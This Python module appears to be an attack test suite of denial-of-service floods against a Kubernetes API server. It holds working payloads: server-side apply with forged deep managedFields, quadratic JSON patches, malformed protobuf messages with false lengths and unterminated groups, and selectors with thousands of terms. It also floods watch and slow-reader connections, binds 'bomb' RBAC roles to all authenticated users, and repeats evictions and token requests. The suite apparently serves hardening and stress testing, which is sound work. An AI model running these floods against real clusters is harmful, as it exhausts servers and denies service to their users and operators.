"""More requests that are dear for the server: applied objects, protobuf, selectors, watches, pages, reviews and metrics."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from contextlib import suppress
from itertools import count
from typing import Any, Final
from urllib.parse import quote

from tests.attacks.floods import (
    APPLY,
    CONFIG_MAPS,
    GONE,
    JSON,
    JSON_PATCH,
    MAX_BODY,
    MERGE_PATCH,
    PODS,
    PROTOBUF,
    Flood,
    Run,
    Socket,
    creating,
    encoded,
    repeated,
    together,
)
from tests.attacks.manifests import Manifest, collection, config_map
from tests.attacks.workloads import plain_pod

MAGIC: Final = b"k8s\0"
RBAC: Final = "rbac.authorization.k8s.io"


# --- applied objects ---


def applied(managers: int = 60, keys: int = 3_000) -> Run:
    """One object that many managers apply thousands of fields of, and pods with a thousand containers."""

    async def run(flood: Flood) -> None:
        async def work(connection: int) -> None:
            async with Socket(flood) as client:
                for turn in range(managers):
                    name = f"m{connection}-{turn}"
                    own = {f"k{number}": name for number in range(keys)}
                    path = f"{CONFIG_MAPS}/applied-{connection}?fieldManager={name}&force=true"
                    body = {**config_map(f"applied-{connection}", own)}
                    await client.ask("PATCH", path, encoded(body), APPLY)

        async def containers() -> None:
            made = plain_pod("applied")
            made["spec"]["containers"] = [
                {
                    "name": f"c{number}",
                    "image": "pause",
                    "env": [{"name": f"E{each}", "value": "v"} for each in range(20)],
                    "ports": [{"containerPort": 1 + each} for each in range(20)],
                }
                for number in range(400)
            ]
            async with Socket(flood) as client:
                for turn in count():
                    path = f"{PODS}/applied?fieldManager=m{turn % 20}&force=true"
                    await client.ask("PATCH", path, encoded(made), APPLY)
                    await asyncio.sleep(0.05)

        async def forged() -> None:
            """Managed fields that no manager ever wrote: deep, wide, and many."""
            fields: Any = {}
            for _ in range(300):
                fields = {"f:a": fields, 'k:{"name":"x"}': {}, ".": {}}
            wide: Manifest = {f"f:k{number}": {} for number in range(20_000)}
            for turn in count():
                forging = [
                    {
                        "manager": f"m{number}",
                        "operation": "Update",
                        "apiVersion": "v1",
                        "time": "2026-01-01T00:00:00Z",
                        "fieldsType": "FieldsV1",
                        "fieldsV1": fields if number else {"f:data": wide},
                    }
                    for number in range(20)
                ]
                made = config_map(f"forged-{turn % 5}", {})
                made["metadata"]["managedFields"] = forging
                async with Socket(flood) as client:
                    with suppress(*GONE):
                        await client.ask("POST", CONFIG_MAPS, encoded(made))
                        await client.ask("PUT", f"{CONFIG_MAPS}/forged-{turn % 5}", encoded(made))
                await asyncio.sleep(0.05)

        await together(flood, [*(work(index) for index in range(3)), containers(), forged()])

    return run


# --- patches ---


def front_insertions(number: int = 9_900) -> bytes:
    """Every operation moves a whole list."""
    start: list[Any] = [
        {"op": "add", "path": "/metadata/finalizers", "value": ["example.com/x"] * 90_000}
    ]
    return encoded(
        start + [{"op": "add", "path": "/metadata/finalizers/0", "value": "example.com/a"}] * number
    )


def moves_of_all(number: int = 9_000) -> bytes:
    """Every operation moves the whole object to where it is."""
    value = {f"k{index}": "v" * 5 for index in range(30_000)}
    start: list[Any] = [{"op": "add", "path": "/data", "value": value}]
    copied = [{"op": "copy", "from": "/data", "path": "/x"}]
    return encoded(start + copied + [{"op": "move", "from": "/data", "path": "/data"}] * number)


def deep_paths(number: int = 1_000, depth: int = 2_000) -> bytes:
    path = "/a" * depth
    return encoded([{"op": "add", "path": path, "value": 1}] * number)


def copied_lists(steps: int = 60) -> bytes:
    start: list[Any] = [
        {"op": "add", "path": "/metadata/finalizers", "value": ["a.example.com/x"] * 1000}
    ]
    return encoded(
        start
        + [
            {"op": "copy", "from": "/metadata", "path": f"/metadata/m{step}"}
            for step in range(steps)
        ]
    )


def patches() -> Run:
    target = f"{CONFIG_MAPS}/patched"
    return repeated(
        ("POST", CONFIG_MAPS, lambda: encoded(config_map("patched", {"a": "b"})), JSON),
        ("PATCH", target, front_insertions, JSON_PATCH),
        ("PATCH", target, moves_of_all, JSON_PATCH),
        ("PATCH", target, deep_paths, JSON_PATCH),
        ("PATCH", target, copied_lists, JSON_PATCH),
    )


# --- protobuf ---


def _varint(value: int) -> bytes:
    found = bytearray()
    while value > 0x7F:
        found.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*found, value])


def _field(number: int, content: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(content)) + content


def _unknown(kind: str, raw: bytes, version: str = "v1") -> bytes:
    """The envelope of Kubernetes' protobuf."""
    meta = _field(1, version.encode()) + _field(2, kind.encode())
    return MAGIC + _field(1, meta) + _field(2, raw)


def nested_messages(depth: int = 100_000) -> bytes:
    """Messages in messages: lengths of all of them are true."""
    content = b""
    for _ in range(depth):
        if len(content) > MAX_BODY - 200:
            break
        content = _field(1, content)
    return _unknown("Pod", content)


def lying_lengths() -> bytes:
    return _unknown("Pod", _varint(1 << 3 | 2) + _varint(2**60) + b"x" * 1000)


def many_entries(number: int = 300_000) -> bytes:
    """Map entries that are all about one key."""
    entry = _field(2, _field(1, b"k") + _field(2, b"v"))
    meta = _field(1, _field(1, b"entries"))
    return _unknown("ConfigMap", meta + entry * min(number, (MAX_BODY - 1000) // len(entry)))


def many_containers(number: int = 300_000) -> bytes:
    """Hundreds of thousands of empty containers."""
    container = _field(2, b"")
    spec = container * min(number, (MAX_BODY - 1000) // len(container))
    return _unknown("Pod", _field(1, _field(1, b"containers")) + _field(2, spec))


def groups(number: int = 1_000_000) -> bytes:
    """Groups that begin and never end."""
    return _unknown("Pod", bytes([1 << 3 | 3]) * number)


def repeated_metadata(number: int = 200_000) -> bytes:
    """The same message again and again, each of which is merged into the one before."""
    labels = _field(1, _field(11, _field(1, b"a") + _field(2, b"b")))
    return _unknown("ConfigMap", labels * min(number, (MAX_BODY - 1000) // len(labels)))


def protobuf_monsters() -> Run:
    makers: tuple[tuple[str, Callable[[], bytes]], ...] = (
        (PODS, nested_messages),
        (PODS, lying_lengths),
        (CONFIG_MAPS, many_entries),
        (PODS, many_containers),
        (PODS, groups),
        (CONFIG_MAPS, repeated_metadata),
    )
    return repeated(*(("POST", path, make, PROTOBUF) for path, make in makers))


# --- objects in a namespace of administrators ---


def with_admin_access(manifests: list[Manifest]) -> Run:
    """The objects, once the namespace may have claims with admin access."""
    label = {"metadata": {"labels": {"resource.kubernetes.io/admin-access": "true"}}}

    async def run(flood: Flood) -> None:
        async with Socket(flood) as client:
            await client.ask("PATCH", "/api/v1/namespaces/default", encoded(label), MERGE_PATCH)
        await creating(manifests, 1)(flood)

    return run


# --- reads ---


async def _fill(flood: Flood, number: int) -> None:
    """So many ConfigMaps to read."""
    left = iter(range(number))

    async def work() -> None:
        async with Socket(flood) as client:
            for index in left:
                made = config_map(f"read-{index}", {"a": "b" * 100})
                made["metadata"]["labels"] = {f"l{each}": f"v{index % 7}" for each in range(20)}
                while await client.ask("POST", CONFIG_MAPS, encoded(made)) == "429":
                    await asyncio.sleep(0.5)

    await together(flood, (work() for _ in range(4)))


def selectors(objects: int = 2_000) -> Run:
    """Selectors with hundreds of requirements and thousands of values, over many objects."""
    values = ",".join(f"w{number}" for number in range(5_000))
    requirements = ",".join(f"l{number % 20}!=w{number}" for number in range(1_500))
    sets = ",".join(
        f"l{number} notin ({','.join(f'w{n}' for n in range(90))})" for number in range(20)
    )
    fields = ",".join(f"metadata.name!=x{number}" for number in range(1_200))
    asked = (
        f"labelSelector={quote(f'l1 notin ({values})', safe='(),!=')}",
        f"labelSelector={quote(requirements, safe='(),!=')}",
        f"labelSelector={quote(sets, safe='(),!=')}",
        f"fieldSelector={quote(fields, safe='(),!=')}",
    )

    async def run(flood: Flood) -> None:
        await _fill(flood, objects)

        async def work(query: str) -> None:
            while True:
                async with Socket(flood) as client:
                    with suppress(*GONE):
                        while True:
                            await client.ask("GET", f"{CONFIG_MAPS}?{query}")
                            await client.ask("GET", f"{CONFIG_MAPS}?{query}&limit=1")
                await asyncio.sleep(0.1)

        async def change() -> None:
            async with Socket(flood) as client:
                for turn in count():
                    changed = {"data": {"turn": str(turn)}}
                    await client.ask(
                        "PATCH", f"{CONFIG_MAPS}/read-1", encoded(changed), MERGE_PATCH
                    )
                    await asyncio.sleep(0.02)

        async def watch(query: str) -> None:
            async with Socket(flood) as client:
                await client.send(client.head("GET", f"{CONFIG_MAPS}?watch=true&{query}", 0))
                await client.read_all()

        watching = [watch(query) for query in asked for _ in range(40)]
        await together(flood, [change(), *watching, *(work(query) for query in asked)])

    return run


def bookmarked_watches(watches: int = 400, objects: int = 2_000) -> Run:
    """Watches that want all objects first, and bookmarks, each of them with a selector of its own; opened again and again."""

    async def run(flood: Flood) -> None:
        await _fill(flood, objects)
        gate = asyncio.Semaphore(20)

        async def work(index: int) -> None:
            query = (
                "watch=true&allowWatchBookmarks=true&sendInitialEvents=true"
                "&resourceVersionMatch=NotOlderThan&timeoutSeconds=3"
                f"&labelSelector=l1!=v{index % 7},l2!=x{index}"
            )
            while True:
                async with gate:
                    client = await Socket(flood).__aenter__()
                    await client.send(client.head("GET", f"{CONFIG_MAPS}?{query}", 0))
                try:
                    async with asyncio.timeout(6):
                        await client.read_all()
                except TimeoutError:
                    flood.codes["left"] += 1
                finally:
                    await client.__aexit__()

        async def change() -> None:
            async with Socket(flood) as client:
                for turn in count():
                    changed = {"metadata": {"labels": {"l1": f"v{turn % 7}"}}}
                    path = f"{CONFIG_MAPS}/read-{turn % objects}"
                    await client.ask("PATCH", path, encoded(changed), MERGE_PATCH)

        await together(flood, [change(), *(work(index) for index in range(watches))])

    return run


def slow_readers(connections: int = 400, objects: int = 40, size: int = 100_000) -> Run:
    """Clients that ask for long lists and large objects, and take nothing of the answers."""

    async def run(flood: Flood) -> None:
        async with Socket(flood) as client:
            for number in range(objects):
                made = config_map(f"large-{number}", {"a": "x" * size, "b": "y" * size * 5})
                await client.ask("POST", CONFIG_MAPS, encoded(made))
        gate = asyncio.Semaphore(20)

        async def work(index: int) -> None:
            path = CONFIG_MAPS if index % 4 else f"{CONFIG_MAPS}/large-{index % objects}"
            while True:
                async with gate:
                    client = await Socket(flood, limit=1024).__aenter__()
                    await client.send(client.head("GET", path, 0))
                try:
                    flood.codes["asked"] += 1
                    await asyncio.sleep(12)
                finally:
                    await client.__aexit__()

        await together(flood, (work(index) for index in range(connections)))

    return run


def pages(objects: int = 4_000) -> Run:
    """Lists of the past in pages of one, and deletions of collections that select nothing."""

    async def run(flood: Flood) -> None:
        await _fill(flood, objects)

        async def page() -> None:
            async with Socket(flood) as client:
                while True:
                    listed = await client.told("GET", f"{CONFIG_MAPS}?limit=1")
                    for _ in range(50):
                        token = listed.get("metadata", {}).get("continue", "")
                        if not token:
                            break
                        listed = await client.told("GET", f"{CONFIG_MAPS}?limit=1&continue={token}")

        async def past() -> None:
            async with Socket(flood) as client:
                while True:
                    first = await client.told("GET", f"{CONFIG_MAPS}?limit=1")
                    version = first["metadata"]["resourceVersion"]
                    exact = f"resourceVersion={version}&resourceVersionMatch=Exact"
                    changed = encoded({"data": {"a": version}})
                    await client.ask("PATCH", f"{CONFIG_MAPS}/read-0", changed, MERGE_PATCH)
                    await client.ask("GET", f"{CONFIG_MAPS}?{exact}&limit=3900")

        async def delete_none() -> None:
            async with Socket(flood) as client:
                while True:
                    await client.ask("DELETE", f"{CONFIG_MAPS}?labelSelector=l1=never")

        works = [*(page() for _ in range(4)), *(past() for _ in range(4)), delete_none()]
        await together(flood, works)

    return run


# --- reviews ---


def large_roles(roles: int = 40, rules: int = 400) -> list[Manifest]:
    """Roles with very many rules, which aggregate each other, and are bound to all users."""
    made: list[Manifest] = []
    for number in range(roles):
        metadata = {"name": f"bomb-{number}", "labels": {"bomb": "true"}}
        listed = [
            {
                "apiGroups": [f"g{each}.example.com"],
                "resources": [f"r{each}-{number}"],
                "verbs": ["get", "list"],
                "resourceNames": [f"n{each}-{n}" for n in range(5)],
            }
            for each in range(rules)
        ]
        made.append(
            {
                "apiVersion": f"{RBAC}/v1",
                "kind": "ClusterRole",
                "metadata": metadata,
                "rules": listed,
            }
        )
    for number in range(10):
        selectors = [{"matchLabels": {"bomb": "true"}}]
        made.append(
            {
                "apiVersion": f"{RBAC}/v1",
                "kind": "ClusterRole",
                "metadata": {"name": f"all-{number}", "labels": {"bomb": "true"}},
                "aggregationRule": {"clusterRoleSelectors": selectors},
            }
        )
    made += [
        {
            "apiVersion": f"{RBAC}/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": f"bomb-{number}"},
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": f"bomb-{number}"},
            "subjects": [
                {"apiGroup": RBAC, "kind": "Group", "name": "system:authenticated"},
                *({"apiGroup": RBAC, "kind": "User", "name": f"u{n}"} for n in range(200)),
            ],
        }
        for number in range(roles)
    ]
    return made


def bound_roles(rules: int = 12_000, bindings: int = 60) -> list[Manifest]:
    """A role with as many rules as one object can hold, bound to all users many times in one namespace."""
    role = {"apiGroup": RBAC, "kind": "Role", "name": "bomb"}
    names = (f"n{number}" for number in range(rules))
    listed = [
        {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"], "resourceNames": [name]}
        for name in names
    ]
    all_users = [{"apiGroup": RBAC, "kind": "Group", "name": "system:authenticated"}]
    return [
        {
            "apiVersion": f"{RBAC}/v1",
            "kind": "Role",
            "metadata": {"name": "bomb", "namespace": "default"},
            "rules": listed,
        },
        *(
            {
                "apiVersion": f"{RBAC}/v1",
                "kind": "RoleBinding",
                "metadata": {"name": f"bomb-{number}", "namespace": "default"},
                "roleRef": role,
                "subjects": all_users,
            }
            for number in range(bindings)
        ),
    ]


def access_reviews() -> Run:
    """Whether a user may do something else each time."""
    path = "/apis/authorization.k8s.io/v1/subjectaccessreviews"
    numbers = count()

    def review() -> bytes:
        asked = {"verb": f"v{next(numbers)}", "resource": "pods", "namespace": "default"}
        groups = ["system:authenticated"]
        return encoded({"spec": {"user": "u1", "groups": groups, "resourceAttributes": asked}})

    return repeated(("POST", path, review, JSON))


def reviews() -> Run:
    """What may who do, for a user with thousands of groups."""
    path = "/apis/authorization.k8s.io/v1"
    attributes = {"verb": "get", "resource": "pods", "namespace": "default"}
    many = [f"g{number}" for number in range(5_000)] + ["system:authenticated"]
    review = {"spec": {"user": "u1", "groups": many, "resourceAttributes": attributes}}
    rules = {"spec": {"namespace": "default"}}
    return repeated(
        ("POST", f"{path}/subjectaccessreviews", lambda: encoded(review), JSON),
        ("POST", f"{path}/selfsubjectrulesreviews", lambda: encoded(rules), JSON),
        ("POST", f"{path}/selfsubjectrulesreviews", lambda: encoded(rules), JSON),
        ("POST", f"{path}/selfsubjectrulesreviews", lambda: encoded(rules), JSON),
    )


def reading(*paths: str, connections: int = 4) -> Run:
    """Pages that are dear to compute, again and again."""

    async def run(flood: Flood) -> None:
        async def work(path: str) -> None:
            while True:
                async with Socket(flood) as client:
                    with suppress(*GONE):
                        while True:
                            flood.codes[f"{path} {await client.ask('GET', path)}"] += 1
                            await asyncio.sleep(0.02)
                await asyncio.sleep(0.1)

        await together(flood, (work(path) for path in paths for _ in range(connections)))

    return run


def evictions(pods: int = 300) -> Run:
    """Evictions, bindings, scales and tokens, of pods that budgets protect."""

    async def run(flood: Flood) -> None:
        async with Socket(flood) as client:
            for index in range(pods):
                await client.ask("POST", PODS, encoded(plain_pod(f"evicted-{index}")))
        budget = {
            "metadata": {"name": "all"},
            "spec": {"minAvailable": "100%", "selector": {}},
        }
        async with Socket(flood) as client:
            await client.ask("POST", collection("PodDisruptionBudget"), encoded(budget))

        async def work(offset: int) -> None:
            async with Socket(flood) as client:
                for turn in count(offset):
                    name = f"evicted-{turn % pods}"
                    body = {
                        "apiVersion": "policy/v1",
                        "kind": "Eviction",
                        "metadata": {"name": name},
                    }
                    await client.ask("POST", f"{PODS}/{name}/eviction", encoded(body))
                    account = "/api/v1/namespaces/default/serviceaccounts/default"
                    await client.ask("POST", f"{account}/token", encoded({"spec": {}}))

        await together(flood, (work(offset * 50) for offset in range(6)))

    return run
